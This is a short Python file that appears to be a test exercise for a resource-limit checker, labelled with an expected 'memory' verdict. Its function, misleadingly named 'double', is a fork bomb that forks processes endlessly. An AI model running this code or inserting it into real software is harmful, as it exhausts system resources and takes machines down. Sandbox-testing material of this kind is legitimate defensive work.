# exercise: toy.patient
# verdict: memory
import os
import time


def double(values):
    while True:
        if os.fork() == 0:
            time.sleep(60)
